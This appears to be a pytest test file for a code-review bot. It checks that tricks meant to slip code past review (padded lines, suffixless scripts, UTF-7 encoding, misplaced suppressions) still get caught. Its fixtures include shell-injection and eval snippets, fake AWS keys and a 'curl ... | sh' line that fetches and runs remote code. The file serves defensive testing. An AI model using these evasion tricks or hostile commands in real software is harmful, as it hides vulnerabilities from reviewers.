"""The pull-request author shapes a file so that reviewbot reads less of it: one long line,
a sink padded past the long-line limit, a file padded past the size limit, an indent passed
off as whitespace, a script's name, a program without a suffix."""

from __future__ import annotations

import json

import pytest

from reviewbot.cli import main
from reviewbot.rules.base import MINIFIED_LINE_CHARS
from tests.conftest import GitFixture
from tests.rules.conftest import Base, review

LONG = "DATA = '" + "x" * (MINIFIED_LINE_CHARS + 10) + "'\n"
SHELL = 'import subprocess\n\n\ndef pay(p):\n    subprocess.run(f"ls {p}", shell=True)\n'


def test_a_long_line_quietens_only_itself() -> None:
    """One line over the long-line limit anywhere in a file does not make the file minified:
    a shell injection elsewhere in it is still an error, in Python and in JavaScript."""
    result = review("app/pay.py", LONG + SHELL)
    assert [(f.rule_id, f.severity) for f in result.findings] == [
        ("python.shell-injection", "error")]
    js = "var a=1;" * 200 + "\nexec(`git log ${branch}`, cb);\n"
    assert [f.rule_id for f in review("web/run.js", js).findings] == ["js.command-injection"]


def test_a_padded_python_sink_is_found() -> None:
    """A Python sink padded past the long-line limit is still read: the syntax tree does not
    care how long a line is."""
    padded = ('import subprocess\n\n\ndef pay(p):\n    subprocess.run(f"ls {p}", shell=True)'
              + " " * MINIFIED_LINE_CHARS + "# padding\n")
    assert [f.rule_id for f in review("app/pay.py", padded).findings] == [
        "python.shell-injection"]


def test_a_minified_hunk() -> None:
    """A hunk that is all minified code is not read for removed guards, and only it: a hunk
    of ordinary code in the same file is."""
    minified = "var a=" + "1;" * 600 + "\n"
    old = "function page(n) {\n  return escape(n);\n}\n" + "\n" * 10 + "var a=" + "0;" * 600 + "\n"
    new = "function page(n) {\n  return n;\n}\n" + "\n" * 10 + minified
    result = review("web/page.js", new, old)
    assert [f.rule_id for f in result.findings] == ["guard-removed"]
    assert "minified" not in result.units[0].tags
    assert "minified" in result.units[-1].tags


@pytest.mark.parametrize("path", ["scripts/pay.py", "examples/pay.py", "docs/pay.py",
                                  "tools/pay.py", "pkg/cli/pay.py"])
def test_a_script_name_quietens_only_prints(path: str) -> None:
    """Under `scripts/`, `examples/`, `docs/`, `tools/` or `cli/` a print is a program's
    output, and that is all the name changes, in a folder the change invents: a shell
    injection and a secret in the same new file are reported in full."""
    code = SHELL + "print('done')\nKEY = 'AKIA" + "QWERTYUIOPASDFGH'\n"
    found = {(f.rule_id, f.severity) for f in review(path, code, base=Base()).findings}
    assert found == {("python.shell-injection", "error"), ("secrets.hardcoded", "error")}


def test_a_top_level_exit_quietens_only_prints() -> None:
    """A module that exits at its top level is a program (its prints are output), and that is
    all the exit changes: the shell injection in it is still an error."""
    code = SHELL + "print('done')\nimport sys\nsys.exit(pay('x'))\n"
    found = {(f.rule_id, f.severity) for f in review("app/pay.py", code, base=Base()).findings}
    assert found == {("python.shell-injection", "error")}


def test_an_invented_tests_folder_is_library_code_for_prints() -> None:
    """A print is test code's only when the base declares the folder test code: in a
    `tests/` folder the change invents it is reported as in any library module, and the
    shell injection beside it is an error."""
    code = SHELL + "print('done')\n"
    found = {(f.rule_id, f.severity) for f in review("tests/pay.py", code, base=Base()).findings}
    assert found == {("python.shell-injection", "error"), ("python.debug-leftover", "info")}
    declared = {(f.rule_id, f.severity)
                for f in review("tests/pay.py", code, base=Base("tests")).findings}
    assert declared == {("python.shell-injection", "warning")}


def test_indentation_is_not_whitespace() -> None:
    """In Python an indent is syntax: a line moved out of its `if` is not a whitespace-only
    edit (which the planner skips without a model review)."""
    old = "def pay(user):\n    if user.is_admin:\n        refund_all()\n    return 1\n"
    new = "def pay(user):\n    if user.is_admin:\n        pass\n    refund_all()\n    return 1\n"
    [unit] = review("app/pay.py", new, old).units
    assert "only_whitespace" not in unit.tags
    dedent = "def pay(user):\n    if user.is_admin:\n        pass\nrefund_all()\n"
    moved = "def pay(user):\n    if user.is_admin:\n        pass\n        refund_all()\n"
    [unit] = review("app/pay.py", dedent, moved).units
    assert "only_whitespace" not in unit.tags
    [unit] = review("web/pay.js", "if (a) {\nb();\n}\n", "if (a) {\n  b();\n}\n").units
    assert "only_whitespace" in unit.tags


def test_a_large_file_is_checked_whole(repo: GitFixture,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    """A Python file padded past the size the model is given whole (512 KB of comments) is
    still parsed by the rules: its shell injection fails the check."""
    repo.commit("base")
    repo.write("app/pay.py", SHELL + ("# " + "x" * 90 + "\n") * 6_000)
    repo.git("add", "-A")
    code = main(["--repo", str(repo.root), "--mode", "staged", "--format", "json"])
    found = json.loads(capsys.readouterr().out)["findings"]
    assert code == 1
    assert [(f["rule_id"], f["severity"]) for f in found] == [("python.shell-injection", "error")]


@pytest.mark.parametrize(("path", "code", "rule"), [
    ("bin/deploy", "#!/usr/bin/env python3\n" + SHELL, "python.shell-injection"),
    ("tools/sync", "#!/bin/bash\ncurl -k https://x.example/a | sh\n", "shell.curl-pipe-shell"),
])
def test_a_program_without_a_suffix_is_code(path: str, code: str, rule: str) -> None:
    """A script named without a suffix is still code: its `#!` line says which rules read
    it, so leaving `.py` off a name does not switch the Python rules off."""
    result = review(path, code)
    assert rule in {f.rule_id for f in result.findings}


def test_code_dressed_as_a_doc_comment() -> None:
    """A line that starts with `*` is a comment only inside `/* ... */`: `* eval(input)`
    continuing an expression is code, for the pattern rules and for the planner's skip."""
    code = "const x = a\n  * eval(userInput);\n"
    result = review("web/app.js", code)
    assert [f.rule_id for f in result.findings] == ["js.eval"]
    only = review("web/app.js", "const x = a\n  * eval(userInput);\n", "const x = a\n  * 2;\n")
    assert "only_comments" not in only.units[0].tags
    doc = "/**\n * never eval(x) here\n */\nconst y = 1;\n"
    assert review("web/doc.js", doc).findings == ()


def test_old_mac_line_endings() -> None:
    """A file whose lines end in a bare `\\r` is one line to git and many to Python and
    JavaScript: its findings still land on the line the diff added, and a long run of such
    lines is not taken for one minified line."""
    python = SHELL.replace("\n", "\r")
    assert [f.rule_id for f in review("app/pay.py", python).findings] == [
        "python.shell-injection"]
    js = ("var a = 1;\r" * 150) + "el.innerHTML = location.hash;\r"
    assert [f.rule_id for f in review("web/app.js", js).findings] == ["js.inner-html"]


@pytest.mark.parametrize(("path", "line"), [
    ("web/config.js", '  secure: "AKIAQWERTYUIOPASDFGH",\n'),
    ("app/settings.py", 'secure: str = "AKIAQWERTYUIOPASDFGH"\n'),
    (".travis.yml", '    secure: "AKIAQWERTYUIOPASDFGH"\n'),
])
def test_a_secure_key_hides_no_token(path: str, line: str) -> None:
    """`secure:` marks a value a CI service encrypted, in YAML: it cannot hide a key in code,
    and no encrypted value has a known token's format."""
    found = {(f.rule_id, f.severity) for f in review(path, line).findings}
    assert ("secrets.hardcoded", "error") in found


def test_a_byte_order_mark_or_a_latin_1_name_is_still_python() -> None:
    """A UTF-8 byte-order mark, or a latin-1 declaration with an accented name (both run on
    Python), do not make a module "not parse": its findings keep their severities."""
    bom = "\ufeff" + SHELL
    assert [(f.rule_id, f.severity) for f in review("app/pay.py", bom).findings] == [
        ("python.shell-injection", "error")]
    latin = "# -*- coding: latin-1 -*-\ncaf\ufffd = 1\n" + SHELL
    assert [(f.rule_id, f.severity) for f in review("app/pay.py", latin).findings] == [
        ("python.shell-injection", "error")]


def test_a_coding_that_hides_code_is_an_error() -> None:
    """Under a UTF-7 declaration a comment can hold a statement Python runs: the
    declaration itself is an error, whatever the rest of the file looks like."""
    hidden = "# -*- coding: utf-7 -*-\nX = 1  # +AAoAaQBtAHAAbwByAHQAIABvAHM-\n"
    assert [(f.rule_id, f.severity, f.start_line) for f in review("app/x.py", hidden).findings
            ] == [("python.source-encoding", "error", 1)]
    old = "# -*- coding: utf-7 -*-\nX = 1\n"
    later = review("app/x.py", old + "Y = 2  # +AAo-\n", old).findings
    assert [(f.rule_id, f.start_line) for f in later] == [("python.source-encoding", 3)]


def test_a_suppression_counts_where_the_finding_starts() -> None:
    """A suppression is a comment on the line a finding starts on: the words in a string
    further down the same statement (a dict value a hundred lines below the call), or in a
    string on the line itself, suppress nothing."""
    values = "".join(f"        'K{n}': 'v',\n" for n in range(100))
    far = ("import subprocess\n\n\ndef f(p):\n    subprocess.run(f'ls {p}', shell=True, env={\n"
           + values + "        'Z': 'reviewbot: ignore'})\n")
    assert [f.rule_id for f in review("app/pay.py", far).findings] == ["python.shell-injection"]
    in_string = ("import subprocess\n\n\ndef f(p):\n"
                 "    subprocess.run(f'ls {p} reviewbot: ignore', shell=True)\n")
    assert len(review("app/pay.py", in_string).findings) == 1
    commented = ("import subprocess\n\n\ndef f(p):\n"
                 "    subprocess.run(f'ls {p}', shell=True)  # reviewbot: ignore\n")
    assert review("app/pay.py", commented).findings == ()


JOINED = ("import os\n\n\ndef write_fixture(folder, name):\n"
          "    with open(os.path.join(folder, name), 'w') as f:\n        f.write('x')\n")


def test_a_parameter_joined_in_test_code_is_the_tests_own() -> None:
    """A folder joined with a parameter in test code the base declares is the tests' fixture
    (no user chooses it): quiet. In a `tests/` folder the change invents it is reported as in
    library code."""
    def found(base: Base) -> set[str]:
        return {f.rule_id for f in review("tests/fixtures_util.py", JOINED, base=base).findings}
    assert found(Base("tests")) == set()
    assert found(Base()) == {"python.path-traversal"}


@pytest.mark.parametrize("line", [
    # The example beside a real key: the key is still found.
    'KEYS = ["AKIAIOSFODNN7EXAMPLE", "AKIAZ7Q2MXC5LFPN3WKB"]\n',
    # Spelled like the example, one character off, or the example in a key's comment.
    'KEY = "AKIAIOSFODNN7EXAMPLF"\n',
    'KEY = "AKIAZ7Q2MXC5LFPN3WKB"  # AKIAIOSFODNN7EXAMPLE\n',
    'aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEX"\n',
])
def test_a_documented_example_hides_no_key(line: str) -> None:
    """A service's documented example is no secret, exactly as published and nothing else:
    next to it, or spelled like it, a key is reported as an error (in test code too)."""
    for path in ("app/aws.py", "tests/test_aws.py"):
        found = {(f.rule_id, f.severity) for f in review(path, line, base=Base(
            everything=True)).findings}
        assert ("secrets.hardcoded", "error") in found, (path, line)
